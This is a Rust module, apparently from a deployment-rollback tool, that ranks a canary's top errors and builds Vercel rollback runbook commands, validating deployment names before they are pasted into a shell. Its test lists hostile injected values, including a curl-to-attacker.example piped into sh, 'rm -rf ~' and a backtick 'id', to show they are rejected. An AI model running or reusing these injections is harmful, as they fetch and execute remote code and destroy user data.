//! What to show and do when the decision is ROLLBACK: the canary's top
//! offending errors, and the rollback runbook's steps filled in with the
//! deployment to promote back to.
//!
//! The runbook is copied into a shell, and the deployment it names comes
//! from the logs: a name that is not a deployment id (`dpl_…`) or URL host
//! is never put into a command.

use std::borrow::Cow;
use std::collections::BTreeMap;

use super::report::Offender;
use super::request::Request;
use super::request::is_failure_status;
use super::scope::Scope;

/// How many offenders a report lists.
pub const TOP_OFFENDERS: usize = 5;

/// The canary's failing requests, grouped by (error key, route): how many,
/// and the sample of the first (in order of first appearance) that has
/// one. Sums, so the counts of two sets of requests add up to those of
/// both.
///
/// Counted: requests with a 5xx or crash status or an error key. A request
/// without an error key counts as `HTTP <status>`.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct OffenderCounts {
    /// By (error key, route as logged).
    groups: BTreeMap<(String, String), Group>,
}

/// One (error key, route) pair's requests (or lines).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Group {
    pub count: u64,
    /// The first sample, with its request's (or line's) place in the input.
    pub first: Option<(u64, Box<str>)>,
}

impl Group {
    /// The first sample.
    pub fn first(&self) -> Option<&str> {
        self.first.as_ref().map(|(_, s)| &**s)
    }

    /// Keeps `sample` of a request (or line) at `at` if it is the first.
    pub fn offer(&mut self, at: u64, sample: impl Into<Box<str>>) {
        if self.first.as_ref().is_none_or(|(first, _)| at < *first) {
            self.first = Some((at, sample.into()));
        }
    }
}

impl OffenderCounts {
    /// Counts one of the canary's requests.
    pub fn add(&mut self, request: &Request) {
        let failed = request.status.filter(|&s| is_failure_status(s));
        let key = match (request.error_key(), failed) {
            (Some(key), _) => key.to_string(),
            (None, Some(status)) => format!("HTTP {status}"),
            (None, None) => return,
        };
        let route = request.route_or_path().to_string();
        let group = self.groups.entry((key, route)).or_default();
        group.count += 1;
        if let Some(sample) = request.sample() {
            group.offer(request.first_at(), sample);
        }
    }

    pub fn merge(&mut self, other: OffenderCounts) {
        for (pair, theirs) in other.groups {
            let group = self.groups.entry(pair).or_default();
            group.count += theirs.count;
            if let Some((at, sample)) = theirs.first {
                group.offer(at, sample);
            }
        }
    }
}

/// Count and first sample per (error key, route), borrowed.
type Groups<'a> = BTreeMap<(Cow<'a, str>, &'a str), (u64, Option<&'a str>)>;

/// The canary's errors grouped by (error key, route), most frequent first:
/// its failing requests ([`OffenderCounts`]), and error lines that belong
/// to no request.
pub fn top_offenders(scope: &Scope) -> Vec<Offender> {
    let mut groups = Groups::new();
    for ((key, route), group) in &scope.counts.offenders.groups {
        let sample = group.first.as_ref().map(|(_, s)| &**s);
        groups.insert((Cow::Borrowed(key), route), (group.count, sample));
    }
    for (key, route, count, sample) in scope.canary_flagged.errors() {
        let entry = groups
            .entry((Cow::Borrowed(key), route))
            .or_insert((0, None));
        entry.0 += count;
        entry.1 = entry.1.or(sample);
    }
    let mut ranked: Vec<_> = groups.into_iter().collect();
    // Stable: equal counts stay in key order.
    ranked.sort_by_key(|(_, (count, _))| std::cmp::Reverse(*count));
    ranked.truncate(TOP_OFFENDERS);
    // Only what is shown is redacted (the regex is the costly part), and
    // bounded as shown: a path from a log can carry a token or an email,
    // and samples are kept raw (see `observe`).
    (ranked.into_iter())
        .map(|((error_key, route), (count, sample))| Offender {
            error_key: error_key.into_owned(),
            route: crate::redact::sample(route, 200),
            count,
            sample: sample.map(|s| crate::redact::sample(s, super::observe::SAMPLE_CHARS)),
        })
        .collect()
}

/// Whether `name` is safe to paste into a shell command as a deployment: a
/// deployment id (`dpl_` and letters or digits) or a URL host (letters,
/// digits, dots and dashes).
pub fn is_deployment_name(name: &str) -> bool {
    let id = name
        .strip_prefix("dpl_")
        .is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_alphanumeric()));
    let host = !name.is_empty()
        && name.len() <= 253
        && name.contains('.')
        && !name.starts_with(['.', '-'])
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
    (id || host) && name.len() <= 253
}

/// The rollback runbook's procedure, in order, as copy-pasteable commands.
/// A last good deployment whose name is not a deployment id or host is left
/// as a placeholder, never pasted into a command.
pub fn runbook(canary: &str, last_good: Option<&str>) -> Vec<String> {
    let target = last_good
        .filter(|g| is_deployment_name(g))
        .unwrap_or("<last-good-deployment-url>");
    let canary = if is_deployment_name(canary) {
        canary
    } else {
        "the canary"
    };
    vec![
        format!(
            "vercel list --environment production --limit 5   # confirm the last good deployment before {canary}"
        ),
        format!("vercel promote {target}   # roll production back"),
        format!("vercel logs {target}   # verify: no new error patterns after the rollback"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rollback::Observation;
    use crate::rollback::request::group_requests;

    /// Of a group's requests, the one that appeared first gives the
    /// sample, whichever order they are counted or merged in.
    #[test]
    fn the_first_request_of_a_group_gives_its_sample() {
        let lines: Vec<Observation> = (0..3)
            .map(|i| Observation {
                time_ms: 100 - i,
                request_id: Some(format!("r{i}").into()),
                path: Some("/inbox".into()),
                status: Some(500),
                sample: Some(format!("request {i}").into()),
                ..Observation::default()
            })
            .collect();
        let requests = group_requests(&lines.iter().collect::<Vec<_>>());
        let first = |counts: &OffenderCounts| {
            let group = &counts.groups[&("HTTP 500".to_string(), "/inbox".to_string())];
            (
                group.count,
                group.first.as_ref().map(|(_, s)| s.to_string()),
            )
        };
        let expected = (3, Some("request 0".to_string()));
        let mut backwards = OffenderCounts::default();
        requests.iter().rev().for_each(|r| backwards.add(r));
        assert_eq!(first(&backwards), expected);
        let mut later = OffenderCounts::default();
        later.add(&requests[2]);
        later.add(&requests[1]);
        let mut earlier = OffenderCounts::default();
        earlier.add(&requests[0]);
        later.merge(earlier);
        assert_eq!(first(&later), expected);
    }

    #[test]
    fn runbook_names_the_last_good_deployment() {
        let steps = runbook("dpl_new", Some("dpl_old"));
        assert!(steps[0].starts_with("vercel list --environment production --limit 5"));
        assert!(steps[1].starts_with("vercel promote dpl_old"));
        assert!(steps[2].starts_with("vercel logs dpl_old"));
        assert!(runbook("dpl_new", None)[1].contains("<last-good-deployment-url>"));
    }

    #[test]
    fn names_from_the_logs_never_reach_a_command_unchecked() {
        for hostile in [
            "dpl_ok$(curl -s https://attacker.example/x.sh|sh)",
            "dpl_ok; rm -rf ~",
            "app.vercel.app`id`",
            "dpl_",
            "-rf",
            "a b.vercel.app",
        ] {
            let steps = runbook(hostile, Some(hostile)).join("\n");
            assert!(!steps.contains(hostile), "{hostile}: {steps}");
            assert!(steps.contains("<last-good-deployment-url>"));
        }
        assert!(
            runbook("x", Some("my-app-abc123-acme.vercel.app"))[1]
                .starts_with("vercel promote my-app-abc123-acme.vercel.app ")
        );
    }
}
